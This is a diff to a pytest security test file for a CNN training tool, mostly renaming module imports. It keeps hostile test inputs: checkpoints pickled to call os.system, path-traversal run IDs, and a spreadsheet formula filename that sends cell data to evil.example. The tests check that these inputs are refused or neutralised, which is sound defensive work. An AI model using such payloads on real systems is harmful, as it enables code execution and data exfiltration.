@@ -16,14 +16,16 @@ from pathlib import Path
 import numpy as np
 import pytest
 import torch
+from pagekit import shown
 from PIL import Image
 from streamlit.testing.v1 import AppTest
-
-from cnn_core import checkpoints, cli, metrics_log, predict, runs, snapshots, transfer
-from cnn_core.checkpoints import CheckpointError
-from cnn_core.models import build_model
 from test_draw_page import canvas_state, drawn_one, fake_run
-from pagekit import shown
+
+from cnn_core.analysis import predict, snapshots
+from cnn_core.cli import entry
+from cnn_core.nets.architectures import build_model
+from cnn_core.runs import archive, checkpoints, metrics_log, store
+from cnn_core.runs.checkpoints import CheckpointError
 
 ROOT = Path(__file__).resolve().parents[2]
 PAGES = ROOT / "pages"
@@ -48,7 +50,7 @@ def _texts(at: AppTest, *kinds: str) -> str:
 
 def _cli(argv: list[str], capsys) -> tuple[int, str, str]:
     try:
-        rc = cli.main(argv)
+        rc = entry.main(argv)
     except SystemExit as exc:
         rc = exc.code
     out = capsys.readouterr()
@@ -92,7 +94,7 @@ def evil_run(runs_dir, tmp_path):
     """A completed MNIST run whose best.pt, checkpoint.pt and epoch-1 snapshot each pickle os.system."""
     path = fake_run(runs_dir)
     marker = tmp_path / "pwned"
-    for name in (runs.BEST, runs.CHECKPOINT, "snapshots/epoch-001.pt"):
+    for name in (store.BEST, store.CHECKPOINT, "snapshots/epoch-001.pt"):
         _evil(path / name, marker)
     return path, marker
 
@@ -107,12 +109,12 @@ def test_evil_payload_is_live(tmp_path):
 
 REFUSED = "was refused: it contains objects other than tensors and plain data"
 LOADERS = {
-    "load_checkpoint": lambda p: checkpoints.load_checkpoint(p / runs.BEST),
+    "load_checkpoint": lambda p: checkpoints.load_checkpoint(p / store.BEST),
     "load_model-best": lambda p: predict.load_model(p),
     "load_model-latest": lambda p: predict.load_model(p, which="latest"),
     "inspect-snapshots": lambda p: [snapshots.load_weights(w) for w in snapshots.weights_choices(p)],
-    "import-zip": lambda p: transfer.import_run(transfer.zip_run(p), p.parent.parent / "other-runs"),
-    "import-folder": lambda p: transfer.import_run(p, p.parent.parent / "other-runs"),
+    "import-zip": lambda p: archive.import_run(archive.zip_run(p), p.parent.parent / "other-runs"),
+    "import-folder": lambda p: archive.import_run(p, p.parent.parent / "other-runs"),
 }
 
 
@@ -175,8 +177,8 @@ def test_every_torch_load_in_the_product_uses_weights_only():
         jit += [where for _ in _calls(tree, "torch.jit.load")]
         pickles += [where for name in ("pickle.load", "pickle.loads") for _ in _calls(tree, name)]
     assert loads and all(safe for *_, safe in loads), [x for x in loads if not x[2]]
-    assert {w for w, *_ in loads} >= {"cnn_core/checkpoints.py", "cnn_core/data.py"}
-    assert jit == ["cnn_core/model_export.py"] and pickles == []
+    assert {w for w, *_ in loads} >= {"cnn_core/runs/checkpoints.py", "cnn_core/data/catalog.py"}
+    assert jit == ["cnn_core/export/formats.py"] and pickles == []
 
 
 # ---- checkpoints that do not fit ----------------------------------------------------------------
@@ -208,7 +210,7 @@ def test_checkpoint_for_another_model_names_the_misfit(case, runs_dir, tmp_path,
     with a message naming what does not fit (CLI: exit 1, one line)."""
     path = fake_run(runs_dir)
     model, meta = MISFITS[case][0]()
-    _save(path / runs.BEST, model, meta)
+    _save(path / store.BEST, model, meta)
     with pytest.raises(CheckpointError) as err:
         predict.load_model(path)
     assert MISFITS[case][1] in str(err.value)
@@ -223,14 +225,14 @@ def test_checkpoint_for_another_model_names_the_misfit(case, runs_dir, tmp_path,
 def test_truncated_or_empty_checkpoint_is_one_clear_line(cut, words, runs_dir, tmp_path, capsys):
     """load_model raises CheckpointError naming the file; the CLI exits 1 with one 'error:' line."""
     path = fake_run(runs_dir)
-    whole = (path / runs.BEST).read_bytes()
-    (path / runs.BEST).write_bytes(whole[:cut])
+    whole = (path / store.BEST).read_bytes()
+    (path / store.BEST).write_bytes(whole[:cut])
     with pytest.raises(CheckpointError) as err:
         predict.load_model(path)
-    assert f"checkpoint {path / runs.BEST} {words}" in str(err.value)
+    assert f"checkpoint {path / store.BEST} {words}" in str(err.value)
     rc, out, err = _cli(["predict", "--run", path.name, str(_digit_png(tmp_path))], capsys)
     assert rc == 1 and out == ""
-    _one_line_error(err, f"checkpoint {path / runs.BEST} {words}")
+    _one_line_error(err, f"checkpoint {path / store.BEST} {words}")
 
 
 # ---- run.json that is not a run -----------------------------------------------------------------
@@ -251,7 +253,7 @@ def _bad_runs(runs_dir: Path) -> dict[str, Path]:
     for name, (raw, _) in BAD_RECORDS.items():
         folder = runs_dir / f"bad-{name}"
         shutil.copytree(good, folder)
-        (folder / runs.RUN_JSON).write_bytes(raw)
+        (folder / store.RUN_JSON).write_bytes(raw)
         out[name] = folder
     return out
 
@@ -306,8 +308,8 @@ def garbage_metrics_run(runs_dir) -> Path:
     """A completed run whose metrics.jsonl has epochs 1 and 2 between garbage lines and a torn last line."""
     path = fake_run(runs_dir)
     lines = [_epoch(1, 0.7), *GARBAGE, _epoch(2, 0.9), _epoch(3, 0.8)[:40]]
-    (path / runs.METRICS).write_bytes(b"\n".join(lines))
-    runs.update_run(path, summary={"best_epoch": 2}, progress={"epoch": 2, "epochs": 2, "step": 8,
+    (path / store.METRICS).write_bytes(b"\n".join(lines))
+    store.update_run(path, summary={"best_epoch": 2}, progress={"epoch": 2, "epochs": 2, "step": 8,
                                                                "total_steps": 8, "steps_per_epoch": 4})
     return path
 
@@ -403,7 +405,7 @@ def sentinel(runs_dir) -> Path:
 
 
 def _untouched(sentinel: Path, before: bytes) -> bool:
-    return (sentinel / runs.RUN_JSON).read_bytes() == before and (sentinel / runs.BEST).is_file()
+    return (sentinel / store.RUN_JSON).read_bytes() == before and (sentinel / store.BEST).is_file()
 
 
 @pytest.mark.parametrize("bad", HOSTILE_IDS, ids=lambda b: repr(b)[:24])
@@ -412,15 +414,15 @@ def test_hostile_run_id_refused_by_the_library(bad, sentinel, runs_dir, monkeypa
     '../sentinel' would reach a real run folder)."""
     monkeypatch.chdir(runs_dir)
     with pytest.raises(ValueError, match="invalid run id"):
-        runs.validate_run_id(bad)
+        store.validate_run_id(bad)
     with pytest.raises(ValueError, match="invalid run id"):
-        runs.run_dir(bad)
+        store.run_dir(bad)
     with pytest.raises(ValueError, match="invalid run id|in the runs folder: it lies outside|no run at"):
-        runs.resolve_run(bad)
+        store.resolve_run(bad)
     with pytest.raises(ValueError):
         predict.load_model(bad)
     with pytest.raises(ValueError, match="in the runs folder: it lies outside"):
-        runs.resolve_run(str(sentinel))
+        store.resolve_run(str(sentinel))
 
 
 @pytest.mark.parametrize("name,words", [("x" * 300, "at most 120 characters, got 300"), ("", "cannot be empty"),
@@ -429,23 +431,23 @@ def test_hostile_run_id_refused_by_the_library(bad, sentinel, runs_dir, monkeypa
 def test_bad_run_name_refused(name, words, runs_dir, capsys):
     """clean_name, rename_run and `runs rename` refuse it; the run keeps its name."""
     path = fake_run(runs_dir)
-    before = runs.read_run(path).name
+    before = store.read_run(path).name
     with pytest.raises(ValueError, match=words):
-        runs.clean_name(name)
+        store.clean_name(name)
     with pytest.raises(ValueError, match=words):
-        runs.rename_run(path, name)
+        store.rename_run(path, name)
     rc, out, err = _cli(["runs", "rename", path.name, name], capsys)
     assert rc == 1 and out == ""
     _one_line_error(err, words)
-    assert runs.read_run(path).name == before
+    assert store.read_run(path).name == before
 
 
 def test_path_like_name_is_only_a_label(runs_dir, sentinel):
     """A name such as '../sentinel' or one with a NUL is display text: cleaned, stored, never a path."""
     path = fake_run(runs_dir)
-    assert runs.clean_name("a\x00b/../c") == "ab/../c"
-    runs.rename_run(path, "../sentinel")
-    assert runs.read_run(path).name == "../sentinel" and path.is_dir()
+    assert store.clean_name("a\x00b/../c") == "ab/../c"
+    store.rename_run(path, "../sentinel")
+    assert store.read_run(path).name == "../sentinel" and path.is_dir()
     assert sorted(p.name for p in runs_dir.parent.iterdir()) == ["outside", "runs", "sentinel"]
 
 
@@ -467,7 +469,7 @@ def test_cli_refuses_paths_outside_the_runs_folder(argv, words, sentinel, runs_d
     """Run from inside the runs folder, so '../sentinel' names the real run folder beside it: exit 1, one
     line, and the sentinel's files are untouched."""
     monkeypatch.chdir(runs_dir)
-    before = (sentinel / runs.RUN_JSON).read_bytes()
+    before = (sentinel / store.RUN_JSON).read_bytes()
     argv = [str(sentinel) if a == "SENTINEL" else str(_digit_png(tmp_path)) if a == "IMAGE" else a for a in argv]
     rc, out, err = _cli(argv, capsys)
     assert rc == 1 and out == ""
@@ -483,17 +485,17 @@ def test_cli_reads_a_run_folder_named_outside_but_changes_nothing(argv, sentinel
     `predict --run models/mnist-bundled` needs): `runs show` prints it, `predict` reads its best.pt
     (weights_only) and prints the top-3. The sentinel's files are untouched."""
     monkeypatch.chdir(runs_dir)
-    before = (sentinel / runs.RUN_JSON).read_bytes()
+    before = (sentinel / store.RUN_JSON).read_bytes()
     argv = [str(_digit_png(tmp_path)) if a == "IMAGE" else a for a in argv]
     rc, out, err = _cli(argv, capsys)
     assert rc == 0 and not err, err
-    assert (runs.read_run(sentinel).id in out) if argv[0] == "runs" else out.startswith(f"{argv[-1]}: ")
+    assert (store.read_run(sentinel).id in out) if argv[0] == "runs" else out.startswith(f"{argv[-1]}: ")
     assert _untouched(sentinel, before)
 
 
 def test_real_cli_delete_outside_refused(sentinel, runs_dir):
     """`python -m cnn_core runs delete ../sentinel` as a process, from inside the runs folder: refused."""
-    before = (sentinel / runs.RUN_JSON).read_bytes()
+    before = (sentinel / store.RUN_JSON).read_bytes()
     out = subprocess.run([sys.executable, "-m", "cnn_core", "runs", "delete", "../sentinel"], cwd=runs_dir,
                          env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=60)
     assert out.returncode == 1 and "in the runs folder: it lies outside" in out.stderr, out.stderr
@@ -505,7 +507,7 @@ def test_hostile_run_query_parameter_on_pages(page, sentinel, runs_dir):
     """?run=../sentinel: Inspect warns there is no such run, Train falls back to a run of the runs folder;
     neither shows the sentinel's run."""
     good = fake_run(runs_dir)
-    before = (sentinel / runs.RUN_JSON).read_bytes()
+    before = (sentinel / store.RUN_JSON).read_bytes()
     at = _app(page, run="../sentinel")
     key = "inspect.run" if page == "inspect.py" else "train.watch"
     assert at.selectbox(key=key).value == good.name and at.query_params["run"] == good.name
@@ -520,7 +522,7 @@ FORMULA_NAMES = ['=HYPERLINK("evil.example?"&A1,"click").png', "+1+cmd.png", "-2
                  "\tx.png", "\rx.png"]
 
 
-@pytest.mark.skipif(not (predict.BUNDLED_MNIST / runs.BEST).is_file(), reason="needs models/mnist-bundled")
+@pytest.mark.skipif(not (predict.BUNDLED_MNIST / store.BEST).is_file(), reason="needs models/mnist-bundled")
 def test_classify_many_csv_writes_formula_like_names_as_text():
     """Classify many's CSV: a cell starting with = + - @ tab or CR gets a leading quote; others are as read."""
     import csv
@@ -540,7 +542,7 @@ def test_classify_many_csv_writes_formula_like_names_as_text():
     assert list(rows[0]) == ["file", "label", "correct", "top1", "p1", "top2", "p2", "top3", "p3"]
 
 
-@pytest.mark.skipif(not (predict.BUNDLED_MNIST / runs.BEST).is_file(), reason="needs models/mnist-bundled")
+@pytest.mark.skipif(not (predict.BUNDLED_MNIST / store.BEST).is_file(), reason="needs models/mnist-bundled")
 def test_the_cli_shows_hostile_names_inert_and_writes_its_csv_as_text(tmp_path):
     """`predict ZIP --csv`: a zip entry named with a terminal escape sequence is printed with the escape shown
     (\\x1b), not sent to the terminal, and the CSV's formula-like cells are text, as on the page."""
